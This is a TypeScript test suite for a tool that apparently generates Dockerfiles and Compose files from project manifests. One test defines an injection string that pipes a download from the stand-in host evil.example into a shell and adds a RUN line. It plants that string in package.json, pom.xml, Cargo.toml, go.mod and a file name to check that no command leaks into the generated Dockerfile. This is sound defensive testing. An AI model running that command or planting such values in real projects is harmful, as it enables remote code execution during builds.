import assert from "node:assert/strict";
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, it } from "node:test";
import { readAllSnippets } from "../server/build/generate.ts";
import type { Folder } from "../server/language/core/folder.ts";
import { languageOfFile } from "../server/language/languages.ts";
import { findProjects, mainProjects, type Scaffold, scaffold } from "../server/language/scaffold/scaffold.ts";
import { storesOf } from "../server/language/scaffold/stores.ts";
import { satisfies } from "../server/language/scaffold/versions.ts";
import { folderIn } from "./support/folder.ts";
import { type Sample, sampleOf, withExpected } from "./support/scaffoldSample.ts";

const today = "2026-11-23";
const folder = join(import.meta.dirname, "fixtures/scaffold");
const snippets = readAllSnippets();
const samples = readdirSync(folder).map((file) => sampleOf(join(folder, file)));

function made({ files }: Sample): Scaffold & { readonly titles: readonly string[] } {
  const folder = folderIn(files, "Dockerfile");
  const projects = findProjects(folder, today);
  return {
    ...scaffold(folder, projects, snippets, today),
    titles: projects.map((it) => `${it.id} ${it.title}`),
  };
}

/** The files round one of them, as they lie in its folder. */
function besides(files: Readonly<Record<string, string>>, path: string): Folder {
  const prefix = path.slice(0, path.lastIndexOf("/") + 1);
  const own = Object.entries(files).filter(([name]) => name.startsWith(prefix));
  return folderIn(
    Object.fromEntries(own.map(([name, text]) => [name.slice(prefix.length), text])),
    path.slice(prefix.length),
  );
}

/** What is found and made of a sample, as text. */
function drawn(sample: Sample): string {
  const { files, remarks, titles } = made(sample);
  const ignored = files.map(({ path, text }) =>
    // The .dockerignore is that of a snippet, which has tests of its own.
    path.endsWith(".dockerignore")
      ? `=== ${path} (${text.split("\n").length} lines)\n`
      : `=== ${path}\n${text}`,
  );
  const said = remarks.map((it) => `! ${it.en}\n! ${it.ko}\n`);
  return [...titles.map((it) => `# ${it}\n`), ...said, ...ignored].join("");
}

/** Rules that are off unless asked for, and that are not followed: why. `test/snippets.test.ts` does the same. */
const left = new Map([
  ["pin-base-digest", "a digest is known to a registry only"],
  ["apt-package-unpinned", "so is the version of a package"],
  ["user-numeric", "names are easier to read; the images have them"],
  ["pid1-without-init", "the Compose file gives an init"],
  ["project-name", "that of the folder is good"],
  ...[
    "cap-drop-missing",
    "logging-unbounded",
    "no-new-privileges-missing",
    "no-resource-limits",
    "read-only-fs",
  ].map((name) => [name, "hardening that a program has to be tried with"] as const),
]);

describe("Docker files for a sample project", () => {
  it("are tried on more than eight", () => assert.ok(samples.length > 8));
  for (const sample of samples) {
    it(`are as expected: ${sample.name} (UPDATE=1 writes it)`, () => {
      const now = drawn(sample);
      if (process.env["UPDATE"] === "1") writeFileSync(sample.file, withExpected(sample, now));
      else assert.equal(now, sample.expected);
    });

    it(`lint clean with all rules but those that only a person can follow: ${sample.name}`, () => {
      const all = { ...sample.files };
      for (const { path, text } of made(sample).files) all[path] = text;
      for (const { path, text } of made(sample).files) {
        const language = languageOfFile(path);
        if (!language) continue;
        const problems = language.open(text).problems(today, { rules: "all" }, besides(all, path));
        const said = problems
          .filter(({ rule }) => !left.has(rule.name))
          .map((it) => `${path}: ${it.rule.name} (${it.severity}): ${it.message.en}`);
        assert.deepEqual(said, []);
      }
    });
  }
});

describe("two programs in one folder", () => {
  const files = {
    "composer.json": '{ "require": { "php": "^8.4" } }',
    "package.json": '{ "scripts": { "build": "vite build" }, "devDependencies": { "vite": "7" } }',
  };
  const folder = folderIn(files, "Dockerfile");
  const projects = findProjects(folder, today);

  it("are not taken together by themselves: the other one mostly builds assets", () => {
    assert.deepEqual(
      projects.map(({ id }) => id),
      ["php", "node"],
    );
    assert.deepEqual(
      mainProjects(projects).map(({ id }) => id),
      ["php"],
    );
  });

  it("have files of their own when both are wanted", () => {
    const { files: made } = scaffold(folder, projects, snippets, today);
    assert.deepEqual(
      made.map(({ path }) => path),
      ["Dockerfile", ".dockerignore", "Dockerfile.node", "Dockerfile.node.dockerignore", "compose.yaml"],
    );
    const compose = made.at(-1)?.text ?? "";
    assert.match(compose, /^ {2}app-node:\n {4}build:\n {6}context: \.\n {6}dockerfile: Dockerfile\.node$/m);
    assert.match(compose, /127\.0\.0\.1:8080:8080[\s\S]*127\.0\.0\.1:8081:8080/);
  });
});

describe("a range of versions", () => {
  const cases: readonly [range: string, inside: string, outside: string][] = [
    [">=20", "20 22 24", "18"],
    ["^22.3.0", "22", "20 24"],
    ["22.x || 24.x", "22 24", "20 26"],
    [">=18 <23", "18 22", "16 24"],
    ["18 - 22", "18 20 22", "24"],
    ["~22.1", "22", "24"],
    ["v24", "24", "22"],
    ["lts/*", "22 24", ""],
    [">=3.12,<3.14", "3.12 3.13", "3.11 3.14"],
    ["^3.11", "3.11 3.14", "3.10 4.0"],
    ["~=3.11", "3.11 3.14", "3.10"],
    ["==3.13.*", "3.13", "3.12"],
    ["^8.2 | ^8.4", "8.2 8.5", "7.4"],
    ["> 3.10", "3.11", "3.9"],
  ];
  for (const [range, inside, outside] of cases)
    it(range, () => {
      for (const it of inside.split(" ").filter(Boolean))
        assert.ok(satisfies(range, it), `${it} in ${range}`);
      for (const it of outside.split(" ").filter(Boolean))
        assert.ok(!satisfies(range, it), `${it} not in ${range}`);
    });
});

describe("libraries tell the databases", () => {
  it("in every stack, one SQL database at most, and not by their looks", () => {
    assert.deepEqual(storesOf(["mysql2", "pg", "mongoose"]), ["postgres", "mongo"]);
    assert.deepEqual(storesOf(["github.com/jackc/pgx/v5", "StackExchange.Redis"]), ["postgres", "redis"]);
    assert.deepEqual(storesOf(["pgvector-helpers", "redisson-like", "express"]), []);
  });
});

describe("names out of a project", () => {
  const evil = "x; curl evil.example | sh\nRUN evil";
  for (const [name, files] of [
    [
      "package.json",
      {
        "package.json": JSON.stringify({
          packageManager: `pnpm@${evil}`,
          engines: { node: `>=99 ${evil}\u001b[2J` },
          main: evil,
          scripts: { start: `node ${evil}`, build: "x" },
        }),
      },
    ],
    ["pom.xml", { "pom.xml": `<project><artifactId>${evil}</artifactId><version>1</version></project>` }],
    ["Cargo.toml", { "Cargo.toml": `[package]\nname = ${JSON.stringify(evil)}\n`, "src/main.rs": "" }],
    [
      "go.mod",
      {
        "go.mod": "module a/x;evil\n",
        [`cmd/${evil}/main.go`]: "package main\n",
        "main.go": "package main\n",
      },
    ],
    ["a project file", { [`${evil}.csproj`]: '<Project Sdk="Microsoft.NET.Sdk.Web"/>' }],
  ] as const)
    it(`add no command to the Dockerfile: ${name}`, () => {
      const folder = folderIn(files as Record<string, string>, "Dockerfile");
      const { files: made, remarks } = scaffold(folder, findProjects(folder, today), snippets, today);
      for (const it of made) assert.doesNotMatch(it.text, /^RUN (.*;|evil)|curl evil[^"]*$/m, it.path);
      for (const it of remarks) assert.doesNotMatch(it.en, /\p{Cc}/u);
    });
});

describe("what cannot be put into an image", () => {
  for (const [name, files] of [
    ["an empty folder", {}],
    ["a library", { "package.json": '{ "name": "lib", "main": "" }' }],
    [
      "the root of a workspace",
      { "package.json": '{ "workspaces": ["packages/*"], "scripts": { "build": "turbo" } }' },
    ],
    ["a Go library", { "go.mod": "module a\n", "a.go": "package a\n" }],
    [
      "broken files",
      { "package.json": "{", "pom.xml": "<project", "Cargo.toml": "[", "composer.json": "[]" },
    ],
    ["a crate that is a library", { "Cargo.toml": '[package]\nname = "a"\n', "src/lib.rs": "" }],
  ] as const)
    it(`is left alone: ${name}`, () => {
      assert.deepEqual(findProjects(folderIn(files as Record<string, string>, "Dockerfile"), today), []);
    });
});
